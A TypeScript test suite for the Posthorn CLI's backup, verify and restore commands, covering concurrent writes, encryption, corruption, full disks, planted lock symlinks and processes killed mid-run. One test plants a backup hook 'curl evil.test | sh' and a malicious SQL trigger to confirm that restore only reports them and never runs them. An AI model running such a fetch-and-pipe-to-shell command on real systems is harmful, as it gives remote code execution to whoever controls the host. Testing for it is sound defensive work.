// Thorough, turn 5: backups and restores that are killed, damaged and out of room.
import { type ChildProcess, fork, spawnSync } from 'node:child_process'
import { once } from 'node:events'
import {
  chmodSync,
  chownSync,
  cpSync,
  existsSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs'
import { join } from 'node:path'
import { setTimeout as pause } from 'node:timers/promises'
import { fileURLToPath } from 'node:url'
import { gunzipSync } from 'node:zlib'
import Database from 'better-sqlite3'
import t, { type Test } from 'tap'
import { jsonOf, outcomeOf, runCli, startCli } from '../cli/run.js'
import { cliEntry, initSandbox } from '../support/process.js'
import { makeTempDir } from '../support/store.js'
import { thoroughly } from '../support/thorough.js'

t.setTimeout(300_000)

const mayMount = process.getuid?.() === 0 ? false : 'mounting a small file system needs root'
const passphrase = 'six random words in a row'

interface Made {
  file: string
  rows: Record<string, number>
  withKey: boolean
  encrypted: boolean
}

/** Each in a process of its own, as it takes the lowest priority and no other connection beside. */
const alone = { alone: true } as const

function openPlace(t: Test) {
  const folder = makeTempDir(t)
  const [data, dir, to] = [join(folder, 'data'), join(folder, 'backups'), join(folder, 'new')]
  initSandbox(data)
  const run = (...args: string[]) =>
    runCli(args.includes('--data') ? args : [...args, '--data', data], alone)
  const backup = (...args: string[]) =>
    jsonOf<Made>(t, ['backup', dir, ...args, '--data', data], alone)
  const refused = async (reason: RegExp, ...args: string[]) => {
    const { status, stdout, stderr } = await run(...args)
    t.match(
      { status, stdout, stderr },
      { status: /^(1|65|78)$/, stdout: '', stderr: reason },
      args.join(' '),
    )
    t.match(stderr, /^error: /)
    t.notMatch(stderr, /\n {4}at /, 'no stack')
  }
  return { folder, data, dir, to, run, backup, refused, key: join(data, 'appliance.key') }
}

/** Writes pairs of accounts until the test ends; `told` has the names of those that are on disk. */
function startWriter(t: Test, data: string) {
  const child: ChildProcess = fork(
    fileURLToPath(new URL('../support/store-writer.js', import.meta.url)),
    [data],
  )
  const told: string[] = []
  child.on('message', (name) => told.push(String(name)))
  const ended = once(child, 'exit')
  const stop = async () => {
    child.kill('SIGKILL')
    await ended
  }
  t.teardown(stop)
  return { told, stop, more: () => once(child, 'message') }
}

t.test('a backup beside writes is the database of one moment', async (t) => {
  const { data, to, backup, run } = openPlace(t)
  const writer = startWriter(t, data)
  for (let round = 0; round < 3; round++) {
    await writer.more()
    const before = [...writer.told]
    const { file, rows } = await backup(round === 1 ? '--no-compress' : '--with-key')
    t.ok(writer.told.length > before.length, 'it was written meanwhile')
    t.equal((await run('backup', 'verify', file)).status, 0)
    rmSync(to, { recursive: true, force: true })
    t.equal((await run('restore', file, '--to', to)).status, 0)
    const db = new Database(join(to, 'posthorn.db'), { readonly: true })
    const pairs = db
      .prepare<[], { name: string; rows: number }>(
        "select name, count(*) rows from accounts where name <> 'Sandbox' group by name",
      )
      .all()
    db.close()
    t.equal(pairs.filter(({ rows }) => rows !== 2).length, 0, 'no half of a transaction')
    const found = new Set(pairs.map(({ name }) => name))
    t.same(
      before.filter((name) => !found.has(name)),
      [],
      'all that was answered before is there',
    )
    t.equal(rows.accounts, 2 * pairs.length + 1)
  }
  await writer.stop()
  const log = statSync(join(data, 'posthorn.db-wal')).size
  t.ok(log < 400_000_000, `the log has ${log} bytes`)
})

t.test('a backup has everything, says so, and comes back to another directory', async (t) => {
  const { data, dir, to, backup, run, refused, key } = openPlace(t)
  writeFileSync(join(data, 'shaping.toml'), '# mine\n')
  const made = await backup()
  t.match(made, { withKey: true, encrypted: false, rows: { accounts: 1 } })
  const listed = await run('backup', 'list', dir)
  t.match(listed.stdout, /^MADE .+\n.+ UTC .+ no .+posthorn-\d{8}T\d{9}Z\.tar\.gz\n$/)
  const again = await run('restore', made.file, '--to', to)
  t.match(again, { status: 0, stdout: /^Restored to .+, as it was at / })
  for (const name of ['appliance.key', 'posthorn.toml', 'shaping.toml']) {
    t.ok(readFileSync(join(to, name)).equals(readFileSync(join(data, name))), name)
    t.equal(statSync(join(to, name)).mode & 0o777, 0o600)
  }
  t.match((await run('account', 'list')).stdout, /Sandbox/)
  t.same(readdirSync(to).sort(), [
    'appliance.key',
    'posthorn.db',
    'posthorn.lock',
    'posthorn.toml',
    'shaping.toml',
  ])

  await refused(
    /The database that is there .+ is replaced.+with --yes it is done/,
    'restore',
    made.file,
    '--to',
    to,
  )
  await run('account', 'create', 'Since then')
  const replaced = await run('restore', made.file, '--yes')
  t.match(replaced, { status: 0, stdout: /What was there before is in / })
  t.notMatch((await run('account', 'list')).stdout, /Since then/)
  const [kept = ''] = readdirSync(data).filter((name) => name.startsWith('before-restore-'))
  t.notMatch(kept, /partial/)
  const old = (await runCli(['account', 'list', '--data', join(data, kept)], alone)).stdout
  t.match(old, /Since then/, 'the old database is whole where it is kept')
  t.ok(readFileSync(join(data, kept, 'appliance.key')).equals(readFileSync(key)))
})

t.test('the settings in use come along, wherever they lie', { skip: mayMount }, async (t) => {
  const { folder, data, dir, to, run } = openPlace(t)
  rmSync(join(data, 'posthorn.toml'))
  // An /etc of its own for these commands alone.
  const etc = join(folder, 'etc')
  cpSync('/etc', etc, { recursive: true, verbatimSymlinks: true })
  mkdirSync(join(etc, 'posthorn'), { recursive: true })
  writeFileSync(join(etc, 'posthorn', 'posthorn.toml'), '[log]\nlevel = "warn"\n')
  writeFileSync(join(etc, 'posthorn', 'shaping.toml'), '# of the machine\n')
  const named = join(folder, 'my-settings.conf')
  writeFileSync(named, '[operator]\ncommand = ["/usr/bin/page"]\n')
  const backup = (...args: string[]) => {
    const command = [process.execPath, cliEntry, 'backup', dir, '--data', data, '--json', ...args]
    const script = 'mount --bind "$0" /etc && exec "$@"'
    const made = spawnSync('unshare', ['--mount', 'sh', '-c', script, etc, ...command])
    t.equal(made.status, 0, String(made.stderr))
    return (JSON.parse(String(made.stdout)) as Made).file
  }
  for (const [args, settings] of [
    [[], join(etc, 'posthorn', 'posthorn.toml')],
    [['--config', named], named],
  ] as const) {
    const restored = await run('restore', backup(...args), '--to', to, '--yes')
    t.match(restored, { status: 0, stdout: /^The files of \/etc\/posthorn are in /m })
    const [place = ''] = readdirSync(to).filter((name) => name.startsWith('etc-of-backup-'))
    const of = (name: string) => readFileSync(join(to, place, name), 'utf8')
    t.equal(of('posthorn.toml'), readFileSync(settings, 'utf8'), 'the one that was in use')
    t.equal(of('shaping.toml'), '# of the machine\n')
    t.equal(/operator\.command: \["\/usr\/bin\/page"\]/.test(restored.stderr), args.length > 0)
    rmSync(join(to, place), { recursive: true })
  }
})

t.test('the key is kept apart where that is asked for, and compared', async (t) => {
  const { folder, to, backup, run, refused, key } = openPlace(t)
  const made = await backup('--without-key')
  t.equal(made.withKey, false)
  const tar = spawnSync('tar', ['tzf', made.file], { encoding: 'utf8' }).stdout
  t.notMatch(tar, /appliance\.key/)
  t.match(
    (await run('backup', 'verify', made.file)).stdout,
    /^Key +not in it; that of .+ belongs to/m,
  )
  mkdirSync(to)
  const nowhere = await runCli(['backup', 'verify', made.file, '--data', to], alone)
  t.match(nowhere, { status: 0, stdout: /not in it, and not compared/ })
  const foreign = join(folder, 'foreign.key')
  writeFileSync(foreign, `${Buffer.alloc(32, 7).toString('base64')}\n`)
  const other = /appliance key .+ does not belong to the database/
  await refused(other, 'backup', 'verify', made.file, '--key', foreign)
  await refused(/name the file that has it by --key/, 'restore', made.file, '--to', to)
  await refused(
    / key \/\S+\/foreign\.key does not belong/,
    'restore',
    made.file,
    '--to',
    to,
    '--key',
    foreign,
  )
  const empty = join(folder, 'empty.key')
  writeFileSync(empty, '')
  await refused(
    / key \/\S+\/empty\.key is damaged/,
    'restore',
    made.file,
    '--to',
    to,
    '--key',
    empty,
  )
  t.same(readdirSync(to), ['posthorn.lock'], 'what was unpacked is gone')
  // As one leaves it that is killed.
  mkdirSync(join(to, 'restore.partial'))
  await refused(/A restore into .+ was broken off/, 'account', 'list', '--data', to)
  await refused(/A restore into .+ was broken off/, 'init', '--data', to)
  t.equal((await run('restore', made.file, '--to', to, '--key', key)).status, 0)
  t.ok(readFileSync(join(to, 'appliance.key')).equals(readFileSync(key)))
  t.equal((await runCli(['account', 'list', '--data', to], alone)).status, 0)
})

t.test('root restores for another user what root alone may read', { skip: mayMount }, async (t) => {
  const { folder, data, dir, to, run, backup, key } = openPlace(t)
  const words = join(folder, 'words')
  writeFileSync(words, `${passphrase}\n`, { mode: 0o600 })
  const made = await backup('--without-key', '--passphrase-file', words)
  const owner = 65_534
  // Its parent lets the owner through; what lies beside it stays root's.
  chmodSync(folder, 0o711)
  mkdirSync(to, { mode: 0o700 })
  chownSync(to, owner, owner)
  t.equal(statSync(dir).mode & 0o77, 0)
  const given = ['--key', key, '--passphrase-file', words]
  const restored = await run('restore', made.file, '--to', to, ...given)
  t.match(restored, { status: 0 }, restored.stderr)
  for (const name of readdirSync(to)) t.equal(statSync(join(to, name)).uid, owner, name)
  t.ok(readFileSync(join(to, 'appliance.key')).equals(readFileSync(key)))

  // What it makes is the owner's, who has to get there; the passphrase is read before.
  chownSync(data, owner, owner)
  for (const name of readdirSync(data)) chownSync(join(data, name), owner, owner)
  const away = await run('backup', dir, '--passphrase-file', words)
  t.match(away, { status: 1, stderr: /It works as \S+, to whom \S+ belongs: use a place/ })
  const own = join(data, 'kept')
  t.match(await run('backup', own, '--passphrase-file', words), { status: 0 })
})

t.test('a backup that is told to stop says so by its status, and leaves nothing', async (t) => {
  const { data, dir } = openPlace(t)
  mkdirSync(dir)
  for (const [signal, status] of [
    ['SIGTERM', 143],
    ['SIGINT', 130],
  ] as const) {
    const child = startCli(['backup', dir, '--data', data])
    const ended = outcomeOf(child)
    while (!existsSync(join(dir, '.posthorn-backup.lock'))) await pause(5)
    child.kill(signal)
    t.match(await ended, { status, stderr: /^error: The backup was stopped/ }, signal)
    t.same(readdirSync(dir), ['.posthorn-backup.lock'])
    rmSync(join(dir, '.posthorn-backup.lock'))
  }
})

t.test('an encrypted backup opens with its passphrase alone', async (t) => {
  const { folder, dir, to, data, backup, run, refused } = openPlace(t)
  const file = join(folder, 'passphrase')
  writeFileSync(file, `${passphrase}\n`)
  const made = await backup('--passphrase-file', file)
  t.match(made, { encrypted: true, file: /\.tar\.gz\.enc$/ })
  t.notMatch(readFileSync(made.file).toString('latin1'), /manifest\.json|ustar/)
  await refused(/The passphrase is missing/, 'backup', 'verify', made.file)
  writeFileSync(join(folder, 'wrong'), 'six other words in a row\n')
  await refused(
    /passphrase is wrong/,
    'restore',
    made.file,
    '--to',
    to,
    '--passphrase-file',
    join(folder, 'wrong'),
  )
  const env = { POSTHORN_BACKUP_PASSPHRASE: passphrase }
  const verified = await runCli(['backup', 'verify', made.file, '--data', data], { ...alone, env })
  t.equal(verified.status, 0)
  t.equal((await run('restore', made.file, '--to', to, '--passphrase-file', file)).status, 0)
  writeFileSync(file, 'short\n')
  await refused(/fewer than 12 characters/, 'backup', dir, '--passphrase-file', file)
  await refused(/The passphrase is missing/, 'backup', dir, '--encrypt')
  t.equal(readdirSync(dir).filter((name) => !name.startsWith('.')).length, 1)
})

const unzipped = (bytes: Buffer) => {
  try {
    return gunzipSync(bytes)
  } catch {
    return undefined
  }
}

t.test('damage anywhere is found, and nothing of it is restored', async (t) => {
  const { folder, to, backup, refused } = openPlace(t)
  const sealed = join(folder, 'passphrase')
  writeFileSync(sealed, passphrase)
  const kinds = [[], ['--no-compress'], ['--passphrase-file', sealed]]
  for (const kind of kinds) {
    const { file } = await backup(...kind)
    const bytes = readFileSync(file)
    const bad = join(folder, 'bad')
    const word = kind[0] === '--passphrase-file' ? kind : []
    for (const share of [0.05, 0.5, 0.9]) {
      // What lies between the files of a tar is zero, and says nothing.
      let at = Math.floor(share * bytes.length)
      while (bytes[at] === 0) at--
      const flipped = Buffer.from(bytes)
      flipped[at] = (flipped[at] ?? 0) ^ 0x10
      // Zeros copied from another place are zeros: a flipped distance of deflate may change nothing.
      if (kind.length === 0 && unzipped(flipped)?.equals(gunzipSync(bytes))) continue
      writeFileSync(bad, flipped)
      await refused(/damaged|changed/, 'backup', 'verify', bad, ...word)
    }
    writeFileSync(bad, bytes.subarray(0, bytes.length >> 1))
    await refused(/damaged|changed/, 'restore', bad, '--to', to, ...word)
    t.notOk(existsSync(join(to, 'posthorn.db')))
  }
})

t.test('a backup of another version, and one whose database is another, are refused', async (t) => {
  const { folder, data, to, backup, refused } = openPlace(t)
  const newer = join(folder, 'newer')
  cpSync(data, newer, { recursive: true })
  const db = new Database(join(newer, 'posthorn.db'))
  db.exec("insert into kysely_migration (name, timestamp) values ('9999-of-tomorrow', '')")
  db.close()
  const { file } = await jsonOf<Made>(t, ['backup', join(folder, 'b'), '--data', newer], alone)
  await refused(/this version does not know \(9999-of-tomorrow\)/, 'restore', file, '--to', to)
  const before = new Database(join(newer, 'posthorn.db'))
  before.exec(
    "delete from kysely_migration where name not like '9999%'; update kysely_migration set name = '0100-x'",
  )
  before.close()
  const old = await jsonOf<Made>(t, ['backup', join(folder, 'b'), '--data', newer], alone)
  await refused(/made by Posthorn before its first release/, 'restore', old.file, '--to', to)

  const made = await backup('--no-compress')
  const parts = join(folder, 'parts')
  mkdirSync(parts)
  spawnSync('tar', ['xf', made.file, '-C', parts])
  const other = new Database(join(parts, 'posthorn.db'))
  other.exec('delete from api_keys')
  other.close()
  const names = ['manifest.json', 'appliance.key', 'data/posthorn.toml', 'posthorn.db']
  const packed = join(folder, 'other.tar')
  spawnSync('tar', ['cf', packed, '--format=ustar', '-C', parts, ...names])
  await refused(/checksum of posthorn\.db is wrong/, 'backup', 'verify', packed)
})

t.test('a backup of others changes nothing unseen, and runs nothing unsaid', async (t) => {
  const { data, to, backup, run, refused } = openPlace(t)
  const change = (sql: string) => {
    const db = new Database(join(data, 'posthorn.db'))
    db.exec(sql)
    db.close()
  }
  change(
    "create trigger sly after update on appliance begin update accounts set name = 'owned'; end",
  )
  const sly = await backup()
  await refused(/has triggers or virtual tables.+\["sly"\]/, 'backup', 'verify', sly.file)
  await refused(/has triggers or virtual tables.+\["sly"\]/, 'restore', sly.file, '--to', to)
  t.notOk(existsSync(join(to, 'posthorn.db')))

  change('drop trigger sly')
  const own = join(data, 'posthorn.toml')
  const settings = existsSync(own) ? readFileSync(own, 'utf8') : ''
  const hook = '\n[backup]\nhook = ["sh", "-c", "curl evil.test | sh"]\n'
  const command = '\n[operator]\ncommand = ["/tmp/\\u001bpage"]\n'
  writeFileSync(own, settings + hook + command)
  const { file } = await backup()
  const { status, stderr } = await run('restore', file, '--to', to)
  t.equal(status, 0)
  t.match(stderr, 'backup.hook: ["sh","-c","curl evil.test | sh"]')
  t.match(stderr, 'operator.command: ["/tmp/\\u001bpage"]')
})

t.test('a damaged database is not backed up as if it were sound', async (t) => {
  const { data, dir, refused } = openPlace(t)
  const file = join(data, 'posthorn.db')
  const bytes = readFileSync(file)
  const middle = (bytes.length / 4_096) >> 1
  bytes.fill(0xff, middle * 4_096, (middle + 2) * 4_096)
  writeFileSync(file, bytes)
  await refused(/damaged|malformed/, 'backup', dir)
  const made = existsSync(dir) ? readdirSync(dir) : []
  t.same(
    made.filter((name) => !name.endsWith('.lock')),
    [],
  )
})

t.test('what stands in the way of a backup is said plainly', async (t) => {
  const { folder, dir, to, backup, run, refused } = openPlace(t)
  const { file } = await backup()
  const notes = join(folder, 'notes')
  writeFileSync(notes, '')
  await refused(/notes is not a directory\. Choose a directory/, 'backup', notes)
  await refused(/a part of that path is a file/, 'backup', join(notes, 'a', 'b'))
  // mkdir's own `recursive` never ends there.
  await refused(/The system makes no directory in \/proc\./, 'backup', '/proc/x/y')
  await refused(/The system makes no file in \/proc\./, 'backup', '/proc')
  await refused(/The system makes no directory in \/proc\./, 'restore', file, '--to', '/proc/x')
  await refused(/notes is not a directory/, 'restore', file, '--to', notes)
  await refused(/notes is not a directory/, 'backup', 'list', notes)
  await refused(/backups is not a file\. Name a backup/, 'backup', 'verify', dir)
  await refused(/backups is not a file\. Name a backup/, 'restore', dir, '--to', to)
  // Before it asks whether the database that is there may go.
  const missing = join(dir, 'missing.tar.gz')
  await refused(/There is no file \S+missing\.tar\.gz\. Name a backup/, 'restore', missing)
  await refused(/Cannot read the appliance key of --key/, 'restore', file, '--to', to, '--key', dir)
  for (const name of ['.posthorn-backup.db', 'posthorn-20261122T021307045Z.tar.partial']) {
    mkdirSync(join(dir, name))
    await refused(/is a directory, and a backup needs that name.+Move it away/, 'backup', dir)
    rmSync(join(dir, name), { recursive: true })
  }
  mkdirSync(join(dir, 'posthorn-20261122T021307045Z.tar'))
  t.match(await run('backup', 'list', dir), { status: 0, stdout: /^MADE .+\n.+\n$/ })
})

t.test('a directory that everybody may write to is told, and a planted lock refused', async (t) => {
  const { folder, data, dir, run, backup, refused } = openPlace(t)
  await backup()
  t.notMatch((await run('backup', dir)).stderr, /warning/)
  chmodSync(dir, 0o777)
  const warned = await run('backup', dir)
  t.match(warned, {
    status: 0,
    stderr: /^warning: anybody .+ may remove .+'chmod o-w .+backups'$/m,
  })
  t.match(await backup(), { problems: [/^anybody /] })
  chmodSync(dir, 0o1777)
  t.notMatch((await run('backup', dir)).stderr, /warning/, 'only owners can remove theirs')

  const lock = join(dir, '.posthorn-backup.lock')
  for (const target of [join(folder, 'none'), join(data, 'posthorn.toml')]) {
    rmSync(lock)
    symlinkSync(target, lock)
    await refused(/backup\.lock is a symlink, .+ remove it, and try again/, 'backup', dir)
  }
  t.notOk(existsSync(join(folder, 'none')), 'nothing is made where it leads')
  rmSync(lock)
  mkdirSync(lock)
  await refused(/backup\.lock is not a file, /, 'backup', dir)
})

t.test('without room there is no backup, and no half of one', { skip: mayMount }, async (t) => {
  const { folder, data, refused } = openPlace(t)
  const disk = join(folder, 'disk')
  mkdirSync(disk)
  const mounted = spawnSync('mount', ['-t', 'tmpfs', '-o', 'size=8m', 'tmpfs', disk])
  t.equal(mounted.status, 0, String(mounted.stderr))
  t.teardown(() => spawnSync('umount', ['-l', disk]))
  await refused(/has \d+ MB free, and the backup needs \d+ MB/, 'backup', disk)
  const db = new Database(join(data, 'posthorn.db'))
  db.exec('create table ballast (bytes blob)')
  db.exec(
    'with recursive n(i) as (select 1 union all select i + 1 from n where i < 70) insert into ballast select randomblob(100000) from n',
  )
  db.close()
  spawnSync('mount', ['-o', 'remount,size=36m', disk])
  const made = await jsonOf<Made>(t, ['backup', disk, '--data', data], alone)
  writeFileSync(
    join(disk, 'ballast'),
    Buffer.alloc(36_000_000 - Math.floor(1.3 * statSync(made.file).size)),
  )
  await refused(/free, and what is in the backup needs/, 'backup', 'verify', made.file)
  t.same(
    readdirSync(disk).filter((name) => /check|db$|partial/.test(name)),
    [],
  )
})

/** A command that is killed after each of many times, from its start to its end. */
async function killedAt(args: string[], afterMs: number): Promise<number | null> {
  const child = startCli(args)
  const outcome = outcomeOf(child)
  const timer = setTimeout(() => child.kill('SIGKILL'), afterMs)
  const { status } = await outcome
  clearTimeout(timer)
  return status
}

/** Enough that each of its stages takes some time. */
function fatten(data: string): void {
  const db = new Database(join(data, 'posthorn.db'))
  db.exec(
    'create table ballast (bytes blob); with recursive n(i) as (select 1 union all select i + 1 from n where i < 300) insert into ballast select randomblob(100000) from n',
  )
  db.close()
}

const kills = Number(process.env.POSTHORN_TEST_KILLS ?? thoroughly(1, 5))

t.test(`a backup that is killed at ${kills} moments leaves nothing that looks whole`, async (t) => {
  const { data, dir, backup, run } = openPlace(t)
  fatten(data)
  const began = performance.now()
  await backup()
  const tookMs = performance.now() - began
  let whole = 1
  for (let i = 0; i < kills; i++) {
    const args = ['backup', dir, '--data', data]
    if ((await killedAt(args, tookMs * (0.2 + (0.8 * i) / kills))) === 0) whole++
    const found = readdirSync(dir).filter((name) => name.endsWith('.tar.gz'))
    t.ok(found.length >= whole, 'what was told to be made is there')
    // One may be killed between its getting its name and its saying so.
    whole = found.length
    const [newest = ''] = found.sort().reverse()
    if (i === 0 || i === kills - 1) {
      t.equal((await run('backup', 'verify', join(dir, newest))).status, 0)
    }
  }
  await backup()
  t.same(
    readdirSync(dir).filter((name) => !name.endsWith('.tar.gz')),
    ['.posthorn-backup.lock'],
    'what was left went with the next one',
  )
})

t.test(
  `a restore that is killed at ${kills} moments leaves the old, the new, or no database`,
  async (t) => {
    const { data, to, backup, run } = openPlace(t)
    fatten(data)
    await run('account', 'create', 'In the backup')
    const { file } = await backup()
    const began = performance.now()
    t.equal((await run('restore', file, '--to', to)).status, 0)
    const tookMs = performance.now() - began
    const accounts = async (dir: string) => {
      const { status, stdout, stderr } = await runCli(['account', 'list', '--data', dir], alone)
      return status === 0 ? stdout : `${status} ${stderr}`
    }
    const seen = new Set<string>()
    for (const onto of ['nothing', 'another'] as const) {
      for (let i = 0; i < kills; i++) {
        rmSync(to, { recursive: true, force: true })
        if (onto === 'another') initSandbox(to)
        await killedAt(
          ['restore', file, '--to', to, '--yes', '--data', to],
          tookMs * (0.5 + (0.8 * i) / kills),
        )
        const found = await accounts(to)
        const is = /In the backup/.test(found)
          ? 'new'
          : /Sandbox/.test(found)
            ? 'old'
            : /^78 .+was broken off/.test(found) || /^1 .+is not a data directory/.test(found)
              ? 'nothing'
              : `wrong: ${found}`
        seen.add(is)
        t.match(is, onto === 'nothing' ? /^(new|nothing)$/ : /^(new|old|nothing)$/)
        // Run again, it is done, whatever was left.
        if (is !== 'new') {
          t.equal((await run('restore', file, '--to', to, '--yes')).status, 0)
          t.match(await accounts(to), /In the backup/)
        }
        if (onto === 'nothing') continue
        const kept = readdirSync(to).filter((name) => /^before-restore-\d/.test(name))
        if (is === 'new' && kept.length === 0) continue
        t.match(
          await accounts(join(to, kept[0] ?? '')),
          /Sandbox/,
          'the old one is whole beside it',
        )
      }
    }
    t.comment([...seen].join(', '))
  },
)
